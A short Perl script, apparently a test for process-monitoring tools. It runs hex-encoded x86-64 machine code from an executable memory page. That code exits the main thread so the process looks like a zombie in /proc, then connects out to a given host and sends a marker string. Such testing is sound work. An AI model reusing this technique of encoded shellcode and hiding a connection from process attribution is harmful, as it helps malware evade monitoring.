# Connects from a thread after the process's first thread has ended: /proc/PID shows a zombie by then. x86-64.
# Arguments: HOST PORT.
#
#   clone(CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, top of this page); the first thread
#   exits; the other sleeps 0.3 s, and goes on like the code of inject.pl
use strict; use warnings; use Socket; use POSIX;
my $code = pack("H*", "488d35000000004881c6e00f00004883e6f0bf000f050031d24531d24531"
  . "c0b8380000000f0585c0740931ffb83c0000000f05488d3d6c00000031f6"
  . "b8230000000f05bf02000000be0100000031d2b8290000000f0589c7488d"
  . "355e000000ba10000000b82a0000000f05488d3544000000ba07000000b8"
  . "010000000f054881ec000200004889e6baff00000031c00f054889e6baff"
  . "00000031c00f0531ffb8e70000000f05000000000000000000a3e1110000"
  . "0000494e4a4543540a") . sockaddr_in($ARGV[1], inet_aton($ARGV[0]));
my $page = syscall(9, 0, 4096, 7, 0x22, -1, 0);
pipe my $from, my $to;
syswrite $to, $code;
syscall(0, fileno($from), $page, length $code) == length $code or die "read: $!\n";
DynaLoader::dl_install_xsub("main::run", $page);
run();
